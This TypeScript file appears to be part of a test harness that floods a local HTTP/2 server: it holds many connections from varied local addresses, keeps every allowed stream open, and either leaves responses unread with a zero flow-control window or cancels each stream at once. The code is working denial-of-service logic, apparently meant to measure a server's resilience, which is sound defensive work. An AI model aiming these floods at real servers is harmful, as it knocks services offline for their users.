import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from "node:http2";
import { setTimeout as delay } from "node:timers/promises";
import { connect as connectTls } from "node:tls";
import type { AttackContext } from "./attack.ts";
import { ATTACKER_NETWORK, type Counts, noCounts } from "./raw-connections.ts";

export type Http2Attack = {
  connections: number;
  addresses: number;
  /** Streams that are open at a time on each connection. nginx allows 128. */
  streams: number;
  path: (at: number) => string;
  /** `unread`: responses are never read. `reset`: each stream is cancelled at once. */
  responses: "read" | "unread" | "reset";
};

/** How much of a response a client that reads nothing accepts: the smallest window. */
const NO_WINDOW = 0;
const REOPEN_AFTER_MS = 500;

/** Opens streams on HTTP/2 connections until the time is over. Opens closed connections again. */
export async function attackHttp2(
  { port, durationMs }: Pick<AttackContext, "port" | "durationMs">,
  plan: Http2Attack,
): Promise<Counts> {
  const counts = noCounts();
  let isOver = false;
  /** The first connection is open or refused: the time begins. */
  const { promise: isBegun, resolve: begin } = Promise.withResolvers<void>();
  const sessions = new Set<ClientHttp2Session>();
  const hold = (at: number): void => {
    if (isOver) return;
    counts.attempts += 1;
    const session = openSession(port, `${ATTACKER_NETWORK}.1.${1 + (at % plan.addresses)}`, plan);
    sessions.add(session);
    session.on("error", () => {});
    session.once("connect", () => {
      begin();
      for (let stream = 0; stream < plan.streams; stream += 1) openStreams(session, plan, counts, () => isOver);
    });
    session.once("close", () => {
      begin();
      sessions.delete(session);
      if (!isOver) counts.closed += 1;
      setTimeout(hold, REOPEN_AFTER_MS, at).unref();
    });
  };
  for (let index = 0; index < plan.connections; index += 1) hold(index);
  await isBegun;
  await delay(durationMs);
  isOver = true;
  for (const session of sessions) session.destroy();
  return counts;
}

function openSession(port: number, localAddress: string, { responses }: Http2Attack): ClientHttp2Session {
  // The certificate is that of a test.
  const options = { host: "127.0.0.1", port, localAddress, ALPNProtocols: ["h2"], rejectUnauthorized: false };
  return connect(`https://127.0.0.1:${port}`, {
    createConnection: () => connectTls(options),
    ...(responses === "unread" && { settings: { initialWindowSize: NO_WINDOW } }),
  });
}

/** Opens a stream, and another one whenever it has ended. */
function openStreams(session: ClientHttp2Session, plan: Http2Attack, counts: Counts, isOver: () => boolean): void {
  if (isOver() || session.destroyed || session.closed) return;
  let stream: ClientHttp2Stream;
  try {
    stream = session.request({ ":path": plan.path(counts.requests) });
  } catch {
    return;
  }
  counts.requests += 1;
  stream.on("error", () => {});
  stream.on("response", ({ ":status": status }) => {
    counts.responses += 1;
    counts.statuses[String(status)] = (counts.statuses[String(status)] ?? 0) + 1;
  });
  stream.once("close", () => setImmediate(openStreams, session, plan, counts, isOver));
  if (plan.responses === "read") stream.resume();
  if (plan.responses === "reset") stream.close(constants.NGHTTP2_CANCEL);
}
